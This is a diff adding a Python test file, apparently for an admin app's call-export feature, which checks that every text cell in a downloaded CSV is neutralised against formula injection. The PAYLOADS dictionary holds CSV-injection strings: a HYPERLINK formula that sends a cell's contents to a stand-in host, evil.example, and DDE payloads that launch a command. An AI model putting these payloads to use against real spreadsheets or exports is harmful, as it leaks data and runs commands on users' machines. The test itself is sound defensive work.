@@ -1,0 +1,75 @@
+"""Finding 8: CSV formula injection. Every text cell of every export is neutralised, not only the summary."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import sqlalchemy as sa
+from starlette.testclient import TestClient
+
+from tests.unit.factories import make_staff, open_session
+from voxanne_admin import db
+from voxanne_admin.api.app import build_api
+from voxanne_admin.calls import export_flow, exports
+from voxanne_admin.calls.filters import CallFilter
+from voxanne_admin.privacy import csvsafe
+
+NOW = datetime.now(UTC)
+PAYLOADS = {
+    "organization": "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
+    "agent": "+cmd|' /C calc'!A0",
+    "ended_reason": "-2+3+cmd|' /C calc'!A0",
+    "recording_url": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "summary": "=1+1",
+}
+
+
+def test_every_text_cell_of_the_calls_export_is_neutralised_when_downloaded(clean_db):
+    with db.get_engine().begin() as conn:
+        org = conn.execute(sa.text(
+            "insert into organizations (name, slug, country, timezone, status, created_at, updated_at) "
+            "values (:n, 'evil', 'US', 'America/New_York', 'active', now(), now()) returning id"),
+            {"n": PAYLOADS["organization"]}).scalar_one()
+        agent = conn.execute(sa.text(
+            "insert into agents (org_id, role, name, system_prompt, first_message, voice_provider, voice_id, "
+            "model_provider, model_name, temperature, max_tokens, max_duration_s, tools, version, sync_status, "
+            "updated_at) values (:o, 'inbound', :n, 'p', '', 'v', 'v', 'm', 'm', 0.5, 250, 600, '[]', 1, 'never', "
+            "now()) returning id"), {"o": org, "n": PAYLOADS["agent"]}).scalar_one()
+        conn.execute(sa.text(
+            "insert into calls (vapi_call_id, org_id, agent_id, is_test, direction, status, status_rank, "
+            "ended_reason, customer_number, started_at, ended_at, duration_s, cost, summary, recording_url, "
+            "report_received, created_at, updated_at) values ('=vapi', :o, :a, false, 'inbound', 'ended', 5, :r, "
+            "'+15550100123', now(), now(), -3, 0.05, :s, :u, true, now(), now())"),
+            {"o": org, "a": agent, "r": PAYLOADS["ended_reason"], "s": PAYLOADS["summary"],
+             "u": PAYLOADS["recording_url"]})
+    flt = CallFilter(org_ids=[org])
+    with db.transaction() as session:
+        staff = make_staff(session, role="viewer")
+        cookie = open_session(session, staff)
+        export = exports.start_export(session, flt=flt, staff_id=staff.id, role="viewer")
+    export_flow.export_csv(flt=flt, path=export.path, token=export.token, role="viewer")
+
+    with TestClient(build_api()) as client:
+        client.cookies.set("vx_session", cookie)
+        response = client.get(f"/api/calls/exports/{export.token}")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text)))
+    body = dict(zip(rows[0], rows[1], strict=True))
+    for column, payload in PAYLOADS.items():
+        assert body[column] == "'" + payload, column
+    assert body["vapi_call_id"] == "'=vapi"
+    # No text cell of the file starts with a formula trigger; numbers stay numbers.
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(csvsafe.TRIGGERS) or csvsafe._NUMBER.fullmatch(cell), cell
+    assert body["duration_s"] == "-3.0"
+
+
+def test_neutralise_leaves_plain_text_and_numbers_alone():
+    assert csvsafe.neutralise("Main Street Clinic") == "Main Street Clinic"
+    assert csvsafe.neutralise("-12.5") == "-12.5"
+    assert csvsafe.neutralise(42) == 42
+    assert csvsafe.neutralise("\t=1") == "'\t=1"
+    assert csvsafe.neutralise("\r=1") == "'\r=1"
